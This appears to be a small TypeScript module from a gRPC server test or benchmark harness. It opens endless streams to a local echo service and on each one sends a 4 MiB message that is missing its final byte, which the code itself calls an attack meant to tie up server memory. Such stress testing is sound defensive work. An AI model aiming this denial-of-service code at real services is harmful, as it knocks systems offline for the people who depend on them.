import { callEndlessly } from "./endless-calls.ts";

const announcedBytes = 4 * 2 ** 20;
/** Shared by all streams, so that the attack starts at once. */
const message = Buffer.alloc(announcedBytes + 4);
message.writeUInt32BE(announcedBytes, 1);

/** Sends all but the last byte of a large message on every stream of one connection, as far as the windows allow. */
export function sendUnfinishedMessages(port: number): Promise<never> {
  return callEndlessly(port, { ":path": "/bench.echo.v1.EchoService/ClientStream" }, (stream) => {
    stream.write(message);
  });
}
